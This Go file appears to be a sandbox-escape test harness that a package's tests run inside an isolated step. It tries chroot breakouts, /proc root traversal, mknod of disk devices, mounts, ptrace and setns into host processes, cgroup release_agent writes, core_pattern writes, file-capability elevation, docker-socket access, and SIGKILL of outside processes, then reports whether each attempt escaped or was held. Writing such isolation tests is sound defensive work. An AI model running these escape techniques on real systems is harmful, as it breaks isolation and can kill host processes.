//go:build linux && amd64

// Command attack tries to get out of a step. It is run by the tests of package
// embed, in a step: it says "ESCAPED" with what it reached, or "held" with what
// stopped it.
package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

// attacks by name. Each gets the path of a file of the host's, and a process.
var attacks = map[string]func(marker string, pid int) error{
	"chroot": chroot, "proc-root": procRoot, "mknod": mknod, "mount": mount, "remount": remount, "new-mount-api": newMount,
	"ptrace": ptrace, "setns": setns, "user-namespace": userNamespace, "namespaces": namespaces, "keyring": keyring, "raw-socket": rawSocket,
	"cgroup-release-agent": releaseAgent, "signal": signal, "file-handles": fileHandles, "open-files": openFiles,
	"kernel": kernel, "proc-sys": procSys, "file-capabilities": fileCapabilities, "raise-capabilities": raise,
	"sockets-by-path": socketsByPath, "masked-paths": masked, "memory-of-others": memory, "io-ports": ioPorts, "pidfd": pidfd, "chdir-above": above,
}

func main() {
	name, marker := os.Args[1], os.Args[2]
	pid, err := strconv.Atoi(os.Args[3])
	if err != nil {
		panic(err)
	}
	if name == "abstract-socket" {
		report(abstract(marker))
		return
	}
	if name == "has-sys-admin" {
		report(hasSysAdmin())
		return
	}
	report(attacks[name](marker, pid))
}

func report(err error) {
	if err == nil {
		fmt.Println("ESCAPED")
		return
	}
	fmt.Println("held:", err)
}

// reached tells whether one of the paths is the host's file.
func reached(paths ...string) error {
	var last error
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err == nil && bytes.HasPrefix(b, []byte("of the host")) {
			return nil
		}
		last = err
	}
	return fmt.Errorf("no file of the host: %w", last)
}

func do(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	_, _, e := syscall.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
	if e != 0 {
		return e
	}
	return nil
}

// all is nil where one of the attempts came through.
func all(attempts ...func() error) error {
	var faults []string
	for _, try := range attempts {
		err := try()
		if err == nil {
			return nil
		}
		faults = append(faults, err.Error())
	}
	return errors.New(strings.Join(faults, "; "))
}

func str(s string) uintptr { p, _ := syscall.BytePtrFromString(s); return uintptr(unsafe.Pointer(p)) }

func chroot(marker string, _ int) error {
	out, err := syscall.Open("/", syscall.O_RDONLY, 0)
	if err != nil {
		return err
	}
	_ = os.Mkdir("/jail", 0o755)
	if err := syscall.Chroot("/jail"); err != nil {
		return err
	}
	if err := syscall.Fchdir(out); err != nil {
		return err
	}
	for range 100 {
		_ = syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		return err
	}
	return reached(marker)
}

func above(marker string, _ int) error {
	up := strings.Repeat("/..", 60)
	return reached(marker, up+marker, "/proc/self/cwd"+up+marker, "/proc/self/root"+up+marker, "/dev/fd/.."+up+marker)
}

func procs() []string {
	p, _ := filepath.Glob("/proc/[0-9]*")
	return append(p, "/proc/self", "/proc/thread-self")
}

func procRoot(marker string, pid int) error {
	var paths []string
	for _, p := range append(procs(), fmt.Sprint("/proc/", pid)) {
		paths = append(paths, p+"/root"+marker, p+"/cwd/../../../../../../.."+marker)
	}
	return reached(paths...)
}

// mknod makes the node of a disk wherever that may be opened.
func mknod(string, int) error {
	b, err := os.ReadFile("/proc/partitions")
	if err != nil {
		return err
	}
	devices := [][2]int{{1, 1}} // /dev/mem
	for line := range strings.Lines(string(b)) {
		f := strings.Fields(line)
		if len(f) == 4 {
			major, e1 := strconv.Atoi(f[0])
			minor, e2 := strconv.Atoi(f[1])
			if e1 == nil && e2 == nil {
				devices = append(devices, [2]int{major, minor})
			}
		}
	}
	var tries []func() error
	for _, dir := range []string{"/", "/dev", "/dev/shm", "/dev/pts", "/dev/mqueue", "/tmpfs", "/cache", "/bind"} {
		for _, d := range devices {
			tries = append(tries, func() error {
				path := filepath.Join(dir, fmt.Sprintf("node-%d-%d", d[0], d[1]))
				kind := uint32(syscall.S_IFBLK)
				if d[0] == 1 && d[1] == 1 {
					kind = syscall.S_IFCHR
				}
				if err := syscall.Mknod(path, kind|0o666, d[0]<<8|d[1]&0xff|d[1]&^0xff<<12); err != nil {
					return err
				}
				defer os.Remove(path)
				f, err := os.Open(path)
				if err != nil {
					return errors.Unwrap(err)
				}
				_, err = f.Read(make([]byte, 512))
				return err
			})
		}
	}
	return all(tries...)
}

func mount(string, int) error {
	_ = os.Mkdir("/m", 0o755)
	return all(
		func() error { return syscall.Mount("tmpfs", "/m", "tmpfs", 0, "") },
		func() error { return syscall.Mount("proc", "/m", "proc", 0, "") },
		func() error { return syscall.Mount("sysfs", "/m", "sysfs", 0, "") },
		func() error { return syscall.Mount("/", "/m", "", syscall.MS_BIND|syscall.MS_REC, "") },
		func() error { return syscall.Mount("", "/", "", syscall.MS_SHARED|syscall.MS_REC, "") },
		func() error { return syscall.Unmount("/proc/sys", syscall.MNT_DETACH) },
		func() error { return syscall.PivotRoot("/", "/m") },
	)
}

func remount(string, int) error {
	const bind = syscall.MS_BIND | syscall.MS_REMOUNT
	return all(
		func() error { return syscall.Mount("", "/", "", bind, "") }, // without nodev
		func() error { return syscall.Mount("", "/dev", "", bind, "") },
		func() error { return syscall.Mount("", "/proc/sys", "", bind, "") },
		func() error { return syscall.Mount("", "/sys", "", syscall.MS_REMOUNT, "") },
	)
}

func newMount(string, int) error {
	const fsopen, openTree, moveMount, mountSetattr = 430, 428, 429, 442
	at := ^uintptr(99) // AT_FDCWD
	return all(
		func() error { return do(fsopen, str("tmpfs"), 0) },
		func() error { return do(openTree, at, str("/"), 1) },
		func() error { return do(moveMount, at, str("/proc"), at, str("/m"), 0) },
		func() error {
			var a [4]uint64
			a[1] = 4
			return do(mountSetattr, at, str("/"), 0, uintptr(unsafe.Pointer(&a)), 32)
		},
	)
}

func ptrace(_ string, pid int) error {
	tries := []func() error{func() error { return syscall.PtraceAttach(pid) }}
	return all(append(tries, func() error {
		// Everything that can be seen and is not a child.
		for _, p := range procs() {
			n, err := strconv.Atoi(filepath.Base(p))
			if err != nil || n == os.Getpid() || inside(n) {
				continue
			}
			if err := syscall.PtraceAttach(n); err == nil {
				return nil
			}
		}
		return errors.New("no other process can be traced")
	})...)
}

// inside tells whether a process is of this step: it has this mount namespace.
func inside(pid int) bool {
	mine, err := os.Readlink("/proc/self/ns/mnt")
	if err != nil {
		return true
	}
	theirs, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/mnt", pid))
	return err == nil && mine == theirs
}

func memory(_ string, pid int) error {
	return all(
		func() error { _, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0); return err },
		func() error { _, err := os.Open("/dev/mem"); return err },
		func() error { _, err := os.Open("/dev/kmsg"); return err },
		func() error {
			b, err := os.ReadFile("/proc/kcore")
			if err == nil && len(b) == 0 {
				err = errors.New("kcore is empty")
			}
			return err
		},
	)
}

func setns(marker string, pid int) error {
	paths, _ := filepath.Glob("/proc/[0-9]*/ns/*")
	more, _ := filepath.Glob(fmt.Sprintf("/proc/%d/ns/*", pid))
	joined := errors.New("no namespace to enter")
	for _, p := range append(paths, more...) {
		fd, err := syscall.Open(p, syscall.O_RDONLY, 0)
		if err != nil {
			continue
		}
		if err := do(308, uintptr(fd), 0); err != nil {
			joined = err
		}
	}
	if reached(marker) == nil {
		return nil
	}
	return fmt.Errorf("setns: %w", joined)
}

func pidfd(_ string, pid int) error {
	fd, _, e := syscall.Syscall(434, uintptr(pid), 0, 0)
	if e != 0 {
		return fmt.Errorf("pidfd_open: %w", e)
	}
	return all(
		func() error { return do(424, fd, uintptr(syscall.SIGCONT), 0, 0) }, // pidfd_send_signal
		func() error { return do(438, fd, 0, 0) },                           // pidfd_getfd
		func() error { return do(308, fd, syscall.CLONE_NEWNS) },
	)
}

func userNamespace(string, int) error {
	return all(
		func() error { return syscall.Unshare(syscall.CLONE_NEWUSER) },
		func() error {
			cmd := exec.Command("/attack", "mount", "/", "1")
			cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS}
			return cmd.Run()
		},
	)
}

func namespaces(string, int) error {
	var tries []func() error
	for _, f := range []int{syscall.CLONE_NEWNS, syscall.CLONE_NEWPID, syscall.CLONE_NEWNET, syscall.CLONE_NEWIPC, syscall.CLONE_NEWUTS} {
		tries = append(tries, func() error { return syscall.Unshare(f) })
	}
	return all(tries...)
}

func keyring(string, int) error {
	return all(
		func() error { return do(250, 0, ^uintptr(2), 0) },                               // keyctl: the session's
		func() error { return do(250, 11, ^uintptr(3), 0, 0) },                           // read the user's
		func() error { return do(248, str("user"), str("k"), str("v"), 1, ^uintptr(2)) }, // add_key
		func() error { return do(249, str("user"), str("k"), 0, ^uintptr(2)) },           // request_key
		func() error {
			b, err := os.ReadFile("/proc/keys")
			if err == nil && len(b) == 0 {
				err = errors.New("no keys are shown")
			}
			return err
		},
	)
}

func rawSocket(string, int) error {
	try := func(family, kind, proto int) func() error {
		return func() error { _, err := syscall.Socket(family, kind, proto); return err }
	}
	return all(
		try(syscall.AF_PACKET, syscall.SOCK_RAW, 0x300),
		try(syscall.AF_PACKET, syscall.SOCK_DGRAM, 0x300),
		try(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP),
		try(syscall.AF_INET6, syscall.SOCK_RAW, syscall.IPPROTO_TCP),
		try(40, syscall.SOCK_STREAM, 0),    // vsock: to the machine that runs this one
		try(38, syscall.SOCK_SEQPACKET, 0), // the kernel's ciphers
	)
}

func releaseAgent(string, int) error {
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	procs, _ := filepath.Glob("/sys/fs/cgroup/*/cgroup.procs")
	more, _ := filepath.Glob("/sys/fs/cgroup/cgroup.*")
	tries := []func() error{
		func() error { _ = os.Mkdir("/cg", 0o755); return syscall.Mount("cgroup", "/cg", "cgroup", 0, "memory") },
		func() error { return syscall.Mount("cgroup2", "/cg", "cgroup2", 0, "") },
		func() error { return os.Mkdir("/sys/fs/cgroup/x", 0o755) },
	}
	for _, f := range append(append(agents, procs...), more...) {
		tries = append(tries, func() error { return os.WriteFile(f, []byte("1"), 0) })
	}
	return all(tries...)
}

// signal kills what it can: the test looks whether the host's process lives.
func signal(_ string, pid int) error {
	err := syscall.Kill(pid, syscall.SIGKILL)
	if err == nil && !inside(pid) {
		return nil
	}
	for n := 2; n < 5000; n++ {
		if n != os.Getpid() && !inside(n) {
			_ = syscall.Kill(n, syscall.SIGKILL)
		}
	}
	return fmt.Errorf("kill: %v", err)
}

func fileHandles(string, int) error {
	var handle [64]byte
	binary.NativeEndian.PutUint32(handle[0:], 8)
	binary.NativeEndian.PutUint32(handle[4:], 1)
	binary.NativeEndian.PutUint64(handle[8:], 2) // the root of most filesystems
	var tries []func() error
	for _, at := range []string{"/etc/hosts", "/etc/resolv.conf", "/"} {
		tries = append(tries, func() error {
			f, err := os.Open(at)
			if err != nil {
				return err
			}
			return do(304, f.Fd(), uintptr(unsafe.Pointer(&handle)), 0)
		})
	}
	return all(tries...)
}

// openFiles looks for what was left open.
func openFiles(string, int) error {
	names, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return err
	}
	for _, n := range names {
		target, err := os.Readlink("/proc/self/fd/" + n.Name())
		if err != nil || strings.HasPrefix(target, "pipe:") || strings.HasPrefix(target, "anon_inode:") || target == "/dev/null" || strings.HasPrefix(target, "/proc/") {
			continue
		}
		fmt.Println(n.Name(), target)
		return nil
	}
	if len(os.Environ()) > 0 {
		for _, e := range os.Environ() {
			if strings.HasPrefix(e, "HOME=/root") || strings.HasPrefix(e, "PATH=") || strings.HasPrefix(e, "SHLVL=") || strings.HasPrefix(e, "PWD=/") || strings.HasPrefix(e, "APT_CONFIG=") {
				continue
			}
			fmt.Println(e)
			return nil
		}
	}
	return errors.New("nothing was left open")
}

func kernel(string, int) error {
	tries := []func() error{}
	for name, nr := range map[string]uintptr{
		"init_module": 175, "finit_module": 313, "delete_module": 176, "kexec_load": 246, "reboot": 169, "swapon": 167,
		"bpf": 321, "perf_event_open": 298, "settimeofday": 164, "acct": 163, "quotactl": 179, "userfaultfd": 323,
		"lookup_dcookie": 212, "open_by_handle_at": 304, "syslog": 103, "sethostname": 170, "setdomainname": 171, "fanotify_init": 300,
		"process_vm_writev": 311, "io_uring_setup": 425, "nfsservctl": 180, "vhangup": 153, "create_module": 174,
	} {
		tries = append(tries, func() error {
			// Arguments that are refused where the call is not.
			err := do(nr, 0xfee1dead, 0, 0, 0, 0)
			if errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.ENOSYS) || errors.Is(err, syscall.EACCES) {
				return fmt.Errorf("%s: %w", name, err)
			}
			if name == "process_vm_writev" || name == "syslog" { // is allowed, for processes of one's own, or with nothing to do
				return fmt.Errorf("%s: %v", name, err)
			}
			fmt.Println(name, err)
			return nil
		})
	}
	return all(tries...)
}

func ioPorts(string, int) error {
	return all(func() error { return do(172, 3) }, func() error { return do(173, 0, 1, 1) })
}

func procSys(string, int) error {
	var tries []func() error
	for _, f := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/panic_on_oom", "/proc/sys/net/ipv4/ip_forward",
		"/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/bus/pci/00/00.0", "/proc/acpi/x", "/sys/kernel/uevent_helper",
		"/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/module/kernel/parameters/panic", "/proc/1/oom_score_adj/x",
	} {
		tries = append(tries, func() error {
			w, err := os.OpenFile(f, os.O_WRONLY, 0)
			if err != nil {
				return err
			}
			defer w.Close()
			fmt.Println(f)
			return nil
		})
	}
	return all(tries...)
}

func masked(string, int) error {
	var tries []func() error
	for _, f := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/interrupts"} {
		tries = append(tries, func() error {
			b := make([]byte, 1)
			r, err := os.Open(f)
			if err == nil {
				_, err = r.Read(b)
			}
			return err
		})
	}
	for _, d := range []string{"/proc/acpi", "/sys/firmware", "/sys/devices/virtual/powercap", "/proc/scsi"} {
		tries = append(tries, func() error {
			e, err := os.ReadDir(d)
			if err == nil && len(e) == 0 {
				err = errors.New("it is empty")
			}
			return err
		})
	}
	return all(tries...)
}

// fileCapabilities gives a program a right that this one has not.
func fileCapabilities(string, int) error {
	b, err := os.ReadFile("/attack")
	if err != nil {
		return err
	}
	if err := os.WriteFile("/armed", b, 0o755); err != nil {
		return err
	}
	cap := make([]byte, 20)
	binary.LittleEndian.PutUint32(cap, 0x02000001) // version 2, effective
	binary.LittleEndian.PutUint32(cap[4:], 1<<21)  // CAP_SYS_ADMIN
	binary.LittleEndian.PutUint32(cap[8:], 1<<21)
	if err := syscall.Setxattr("/armed", "security.capability", cap, 0); err != nil {
		return err
	}
	out, err := exec.Command("/armed", "has-sys-admin", "/", "1").CombinedOutput()
	if err == nil && strings.Contains(string(out), "ESCAPED") {
		return nil
	}
	return fmt.Errorf("run it: %v %s", err, out)
}

func hasSysAdmin() error {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			n, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			if err != nil || n&(1<<21) != 0 {
				return err
			}
			return fmt.Errorf("capabilities are %x", n)
		}
	}
	return errors.New("no capabilities are told")
}

func raise(string, int) error {
	head := struct {
		version uint32
		pid     int32
	}{0x20080522, 0}
	full := [6]uint32{^uint32(0), ^uint32(0), ^uint32(0), 0x1ff, 0x1ff, 0x1ff}
	return all(
		func() error { return do(126, uintptr(unsafe.Pointer(&head)), uintptr(unsafe.Pointer(&full))) },
		func() error { return do(157, 47, 2, 21, 0, 0) }, // ambient CAP_SYS_ADMIN
		hasSysAdmin,
	)
}

func socketsByPath(marker string, _ int) error {
	var tries []func() error
	for _, p := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", filepath.Join(filepath.Dir(marker), "state/socket")} {
		tries = append(tries, func() error { _, err := net.Dial("unix", p); return err })
	}
	return all(tries...)
}

func abstract(name string) error {
	_, err := net.Dial("unix", "@"+name)
	return err
}
